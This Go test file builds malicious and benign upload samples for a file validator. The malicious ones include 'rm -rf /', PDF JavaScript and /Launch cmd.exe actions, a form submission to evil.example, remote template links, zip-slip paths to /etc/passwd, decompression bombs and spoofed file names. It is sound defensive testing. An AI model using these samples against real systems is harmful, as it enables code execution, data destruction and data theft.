package assessment_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"slices"
	"strings"
	"testing"
)

// sample is one file of the corpus: want is the key it is refused with, "" when it is good.
type sample struct {
	name string
	file string // as uploaded
	data []byte
	want string
}

const tooLarge = "assessment.file.too_large"

func fault(cause string) string { return "file assessment.file." + cause }

// pdf is a small document with these objects.
func pdf(objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
	for i, o := range objects {
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+3, o)
	}
	b.WriteString("trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n")
	return b.Bytes()
}

// objStm is a stream of objects as PDF 1.5 packs them.
func objStm(content string) string {
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	_, _ = w.Write([]byte(content))
	_ = w.Close()
	return fmt.Sprintf("<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", z.Len(), z.String())
}

// pack is a ZIP archive of these entries, name after content.
func pack(entries ...string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i+1 < len(entries); i += 2 {
		w, _ := z.Create(entries[i])
		_, _ = w.Write([]byte(entries[i+1]))
	}
	_ = z.Close()
	return b.Bytes()
}

const (
	mainDOCX = `application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml`
	mainXLSX = `application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml`
)

func types(main string) string {
	return `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="` + main + `"/></Types>`
}

func docx(more ...string) []byte {
	return pack(append([]string{"[Content_Types].xml", types(mainDOCX), "_rels/.rels", "<Relationships/>", "word/document.xml", "<w:document/>"}, more...)...)
}

func xlsx(more ...string) []byte {
	return pack(append([]string{"[Content_Types].xml", types(mainXLSX), "_rels/.rels", "<Relationships/>", "xl/workbook.xml", "<workbook/>"}, more...)...)
}

func picture(w, h int) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.SetRGBA(x, y, color.RGBA{R: uint8(x * 255 / w), G: uint8(y * 255 / h), B: 90, A: 255})
		}
	}
	return img
}

func jpg(img image.Image) []byte {
	var b bytes.Buffer
	_ = jpeg.Encode(&b, img, nil)
	return b.Bytes()
}

func pngOf(img image.Image) []byte {
	var b bytes.Buffer
	_ = png.Encode(&b, img)
	return b.Bytes()
}

// exif puts a part with an orientation and a place on Earth into a JPEG.
func exif(data []byte, orientation byte) []byte {
	tiff := []byte{'M', 'M', 0, 42, 0, 0, 0, 8, 0, 2, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, orientation, 0, 0, 0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 38, 0, 0, 0, 0}
	tiff = append(tiff, "GPS -2.2083,113.9167 KALIMANTAN"...)
	body := append([]byte("Exif\x00\x00"), tiff...)
	part := binary.BigEndian.AppendUint16([]byte{0xff, 0xe1}, uint16(len(body)+2))
	return bytes.Join([][]byte{data[:2], part, body, data[2:]}, nil)
}

// chunk is one part of a PNG.
func chunk(kind string, body []byte) []byte {
	out := binary.BigEndian.AppendUint32(nil, uint32(len(body)))
	out = append(append(out, kind...), body...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(append([]byte(kind), body...)))
}

// hugePNG claims a size and holds next to nothing.
func hugePNG(w, h uint32, depth byte) []byte {
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h)
	head = append(head, depth, 6, 0, 0, 0)
	return bytes.Join([][]byte{[]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", head), chunk("IDAT", []byte("x\x9c\x03\x00\x00\x00\x00\x01")), chunk("IEND", nil)}, nil)
}

// hugeJPEG is a JPEG whose frame claims another size.
func hugeJPEG(w, h uint16) []byte {
	data := jpg(picture(8, 8))
	at := bytes.Index(data, []byte{0xff, 0xc0})
	binary.BigEndian.PutUint16(data[at+5:], h)
	binary.BigEndian.PutUint16(data[at+7:], w)
	return data
}

// ole is a compound file with a stream of a name.
func ole(stream string) []byte {
	out := append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 1016)...)
	for i := range len(stream) {
		out = append(out, stream[i], 0)
	}
	return append(out, make([]byte, 512)...)
}

// locked sets the bit of an encrypted entry.
func locked(data []byte) []byte {
	out := bytes.Clone(data)
	out[6] |= 1
	out[bytes.Index(out, []byte("PK\x01\x02"))+8] |= 1
	return out
}

func zeros(n int) string { return strings.Repeat("\x00", n) }

// bad are files that must be refused, with nothing stored.
func bad() []sample { return slices.Concat(badNames(), badPDFs(), badPictures(), badOffice()) }

func badNames() []sample {
	small := jpg(picture(40, 30))
	script := "<html><script>alert(1)</script></html>"
	return []sample{
		{"nothing", "a.pdf", nil, fault("empty")},
		{"one byte", "a.pdf", []byte("%"), fault("type")},
		{"a page under a PDF's ending", "a.pdf", []byte(script), fault("type")},
		{"a picture under a PDF's ending", "a.pdf", small, fault("type")},
		{"a PDF under a picture's ending", "a.jpg", pdf(), fault("type")},
		{"a PNG under the ending of a JPEG", "a.jpg", pngOf(picture(4, 4)), fault("type")},
		{"a page", "a.html", []byte(script), fault("type")},
		{"a drawing with a script", "a.svg", []byte(`<svg onload="alert(1)"/>`), fault("type")},
		{"a program", "a.exe", []byte("MZ\x90\x00"), fault("type")},
		{"a program under a PDF's ending", "a.pdf", []byte("MZ\x90\x00"), fault("type")},
		{"a program whose name looks like a PDF", "laporan.pdf.exe", []byte("MZ"), fault("type")},
		{"a PDF whose name turns the direction", "laporan\u202efdp.exe", pdf(), fault("type")},
		{"a shell script", "a.sh", []byte("#!/bin/sh\nrm -rf /"), fault("type")},
		{"a plain archive", "a.zip", pack("a.txt", "a"), fault("type")},
		{"a GIF", "a.gif", []byte("GIF89a\x01\x00\x01\x00"), fault("type")},
		{"a WebP", "a.webp", []byte("RIFF\x00\x00\x00\x00WEBPVP8 "), fault("type")},
		{"a text", "a.txt", []byte("halo"), fault("type")},
		{"no ending", "laporan", pdf(), fault("name")},
		{"only an ending", ".pdf", pdf(), fault("name")},
		{"no name", "", pdf(), fault("name")},
		{"dots alone", "....pdf", pdf(), fault("name")},
		{"a folder up", "../..", pdf(), fault("name")},
		{"a name of marks alone", "\u202e\u202d.pdf", pdf(), fault("name")},
		{"an endless name", strings.Repeat("a", 5000) + ".pdf", pdf(), fault("name")},
		{"an ending cut by a zero", "a.exe\x00.pdf.exe", pdf(), fault("type")},
	}
}

func badPDFs() []sample {
	script := "<html><script>alert(1)</script></html>"
	return []sample{
		{"a PDF that does not end", "a.pdf", []byte("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"), fault("broken")},
		{"a PDF with something before it", "a.pdf", append([]byte("\n"), pdf()...), fault("type")},
		{"a page and a PDF in one", "a.pdf", append([]byte(script), pdf()...), fault("type")},
		{"a PDF and an archive in one", "a.pdf", append(pdf(), pack("a.txt", "%%EOF")...), fault("type")},
		{"a PDF followed by much", "a.pdf", append(pdf(), make([]byte, 4096)...), fault("broken")},
		{"a locked PDF", "a.pdf", pdf("<< /Encrypt 9 0 R >>"), fault("password")},
		{"a locked PDF with a spelled name", "a.pdf", pdf("<< /Encr#79pt 9 0 R >>"), fault("password")},
		{"a PDF with a script", "a.pdf", pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), fault("active")},
		{"a PDF with a spelled script", "a.pdf", pdf("<< /S /J#61vaScript /J#53 (x) >>"), fault("active")},
		{"a PDF that starts a program", "a.pdf", pdf("<< /S /Launch /F (cmd.exe) >>"), fault("active")},
		{"a PDF that carries a file", "a.pdf", pdf("<< /Type /EmbeddedFile /Length 0 >>"), fault("active")},
		{"a PDF with a film", "a.pdf", pdf("<< /Subtype /RichMedia >>"), fault("active")},
		{"a PDF that sends itself", "a.pdf", pdf("<< /S /SubmitForm /F (https://evil.example) >>"), fault("active")},
		{"a PDF with a packed script", "a.pdf", pdf(objStm("3 0 << /S /JavaScript /JS (x) >>")), fault("active")},
		{"a PDF with a script behind a string that looks like a stream", "a.pdf", pdf("<< /X (>> stream\n) /S /JavaScript >>", "<< >>\nstream\nendstream"), fault("active")},
		{"a PDF with a script behind a remark that looks like a stream", "a.pdf", pdf("<< % >> stream\n/S /JavaScript >>", "<< >>\nstream\nendstream"), fault("active")},
		{"a PDF that hides its packed objects", "a.pdf", pdf("<< /X (stream) /Y 1 >>", objStm("3 0 << /S /JavaScript >>")), fault("broken")},
		{"a PDF with objects packed twice", "a.pdf", pdf("<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n2f4a53>\nendstream"), fault("broken")},
		{"a PDF with objects deflated twice", "a.pdf", pdf("<< /Type /ObjStm /Filter [/FlateDecode /FlateDecode] >>\nstream\nx\nendstream"), fault("broken")},
		{"a PDF whose packed objects are a bomb", "a.pdf", pdf(objStm(zeros(40 << 20))), fault("broken")},
	}
}

func badPictures() []sample {
	small := jpg(picture(40, 30))
	script := "<html><script>alert(1)</script></html>"
	return []sample{
		{"a JPEG of 30,000 × 30,000", "a.jpg", hugeJPEG(30_000, 30_000), fault("pixels")},
		{"a PNG of 30,000 × 30,000", "a.png", hugePNG(30_000, 30_000, 8), fault("pixels")},
		{"a PNG with deep colours", "a.png", hugePNG(6_000, 6_000, 16), fault("pixels")},
		{"a PNG of no size", "a.png", hugePNG(0, 10, 8), fault("broken")},
		{"a PNG cut off", "a.png", pngOf(picture(40, 30))[:90], fault("broken")},
		{"a PNG with a wrong sum", "a.png", bytes.Replace(pngOf(picture(40, 30)), []byte("IDAT"), []byte("IDAX"), 1), fault("broken")},
		{"a JPEG cut off", "a.jpg", small[:len(small)/2], fault("broken")},
		{"a JPEG of its first bytes", "a.jpg", []byte("\xff\xd8\xff\xe0"), fault("broken")},
		{"a JPEG of a thousand scans", "a.jpg", bytes.Replace(small, []byte{0xff, 0xd9}, bytes.Repeat([]byte{0xff, 0xda, 0, 2}, 100), 1), fault("broken")},
		{"a script after a JPEG's first bytes", "a.jpg", []byte("\xff\xd8\xff" + script), fault("broken")},
	}
}

func badOffice() []sample {
	rel := func(kind string) string {
		return `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="https://evil.example/x" TargetMode="External"/></Relationships>`
	}
	script := "<html><script>alert(1)</script></html>"
	return []sample{
		{"a locked workbook", "a.xlsx", ole("EncryptedPackage"), fault("password")},
		{"a locked text", "a.docx", ole("EncryptedPackage"), fault("password")},
		{"an old workbook under a new ending", "a.xlsx", ole("Workbook"), fault("type")},
		{"an old workbook", "a.xls", ole("Workbook"), fault("type")},
		{"an entry with a password", "a.docx", locked(docx()), fault("password")},
		{"a workbook with macros", "a.xlsx", xlsx("xl/vbaProject.bin", "x"), fault("macros")},
		{"a workbook with old macros", "a.xlsx", xlsx("xl/macrosheets/sheet1.xml", "<x/>"), fault("macros")},
		{"a text with macros", "a.docx", docx("word/VBAPROJECT.BIN", "x"), fault("macros")},
		{"a text with a control", "a.docx", docx("word/activeX/activeX1.xml", "<x/>"), fault("macros")},
		{"a macro workbook renamed", "a.xlsx", pack("[Content_Types].xml", types("application/vnd.ms-excel.sheet.macroEnabled.main+xml")), fault("macros")},
		{"a macro workbook by its ending", "a.xlsm", xlsx(), fault("type")},
		{"a text under a workbook's ending", "a.xlsx", docx(), fault("type")},
		{"a workbook under a text's ending", "a.docx", xlsx(), fault("type")},
		{"an archive under a text's ending", "a.docx", pack("a.txt", "a"), fault("type")},
		{"an empty archive under a text's ending", "a.docx", pack(), fault("type")},
		{"a template from elsewhere", "a.docx", docx("word/_rels/settings.xml.rels", rel("attachedTemplate")), fault("active")},
		{"an object from elsewhere", "a.docx", docx("word/_rels/document.xml.rels", rel("oleObject")), fault("active")},
		{"a bomb in a text", "a.docx", docx("word/media/a.bin", zeros(60<<20), "word/media/b.bin", zeros(60<<20)), fault("broken")},
		{"a bomb in one entry", "a.docx", docx("word/media/a.bin", zeros(4<<20)), fault("broken")},
		{"three thousand entries", "a.docx", docx(manyEntries(3_000)...), fault("broken")},
		{"an entry outside", "a.docx", docx("../../etc/passwd", "x"), fault("broken")},
		{"an entry with an absolute name", "a.docx", docx("/etc/passwd", "x"), fault("broken")},
		{"an entry with backward strokes", "a.docx", docx(`..\..\x`, "x"), fault("broken")},
		{"two entries of one name", "a.docx", docx("WORD/document.xml", "x"), fault("broken")},
		{"something after the archive", "a.docx", append(docx(), script...), fault("broken")},
		{"something before the archive", "a.docx", append([]byte(script), docx()...), fault("type")},
		{"a text cut off", "a.docx", docx()[:200], fault("broken")},
		{"a text with a broken entry", "a.docx", bytes.Replace(docx("word/media/x", strings.Repeat("abcdefgh", 4)), []byte("PK\x03\x04"), []byte("PK\x03\x04\x00"), 1), fault("broken")},
		{"more than ten megabytes", "a.pdf", append(pdf(), make([]byte, 10<<20)...), tooLarge},
	}
}

func manyEntries(n int) []string {
	var list []string
	for i := range n {
		list = append(list, fmt.Sprintf("word/media/%d", i), "x")
	}
	return list
}

// good are files that must be taken.
func good() []sample {
	photo := jpg(picture(64, 48))
	gray := image.NewGray(image.Rect(0, 0, 20, 20))
	deep := image.NewNRGBA64(image.Rect(0, 0, 10, 10))
	palette := image.NewPaletted(image.Rect(0, 0, 10, 10), color.Palette{color.Black, color.White})
	list := []sample{
		{name: "a PDF", file: "perjanjian.pdf", data: pdf()},
		{name: "a PDF with a great ending", file: "PERJANJIAN.PDF", data: pdf()},
		{name: "a PDF with links", file: "a.pdf", data: pdf("<< /S /URI /URI (https://kemnaker.go.id) >>")},
		{name: "a PDF with packed objects", file: "a.pdf", data: pdf(objStm("3 0 << /Type /Font /BaseFont /Helvetica >>"))},
		{name: "a PDF with a stream that looks dangerous", file: "a.pdf", data: pdf("<< /Length 40 >>\nstream\n/JS /XFA /S (x)\nendstream")},
		{name: "a signed PDF", file: "a.pdf", data: pdf("<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached >>")},
		{name: "a PDF with a form", file: "a.pdf", data: pdf("<< /FT /Tx /T (nama) >>")},
		{name: "a PDF with a few bytes after its end", file: "a.pdf", data: append(pdf(), "\r\n\r\n"...)},
		{name: "an updated PDF", file: "a.pdf", data: append(pdf(), pdf()[9:]...)},
		{name: "a JPEG", file: "foto.jpg", data: photo},
		{name: "a JPEG with the long ending", file: "foto.jpeg", data: photo},
		{name: "a JPEG in great letters", file: "IMG_2041.JPG", data: photo},
		{name: "a JPEG with a place", file: "foto.jpg", data: exif(photo, 1)},
		{name: "a JPEG on its side", file: "foto.jpg", data: exif(photo, 6)},
		{name: "a JPEG without colours", file: "foto.jpg", data: jpg(gray)},
		{name: "a JPEG with something after it", file: "foto.jpg", data: append(bytes.Clone(photo), "<script>"...)},
		{name: "a JPEG whose Exif is broken", file: "foto.jpg", data: bytes.Replace(exif(photo, 6), []byte("MM\x00\x2a"), []byte("MM\xff\xff"), 1)},
		{name: "a PNG", file: "denah.png", data: pngOf(picture(30, 20))},
		{name: "a PNG with a palette", file: "denah.png", data: pngOf(palette)},
		{name: "a PNG with deep colours", file: "denah.png", data: pngOf(deep)},
		{name: "a PNG with something after it", file: "denah.png", data: append(pngOf(picture(30, 20)), "PK\x05\x06"...)},
		{name: "a workbook", file: "upah.xlsx", data: xlsx()},
		{name: "a workbook with many rows", file: "upah.xlsx", data: xlsx("xl/worksheets/sheet1.xml", strings.Repeat(`<row><c t="n"><v>123456</v></c></row>`, 20_000))},
		{name: "a text", file: "kebijakan.docx", data: docx()},
		{name: "a text with a link", file: "kebijakan.docx", data: docx("word/_rels/document.xml.rels", `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://kemnaker.go.id" TargetMode="External"/></Relationships>`)},
		{name: "a text with a picture", file: "kebijakan.docx", data: docx("word/media/image1.jpg", string(photo))},
		{name: "a name from another system", file: `C:\Users\Sari\Dokumen\gaji Oktober.pdf`, data: pdf()},
		{name: "a name with letters of all kinds", file: "Daftar upah – Kebun 3 (é, ş).pdf", data: pdf()},
		{name: "a very long name", file: strings.Repeat("panjang ", 40) + ".pdf", data: pdf()},
		{name: "two endings", file: "daftar.xlsx.pdf", data: pdf()},
	}
	return list
}

func TestCorpusIsLargeEnough(t *testing.T) {
	t.Parallel()
	if b, g := len(bad()), len(good()); b < 60 || g < 25 {
		t.Errorf("%d bad and %d good files, want 60 and 25", b, g)
	}
}
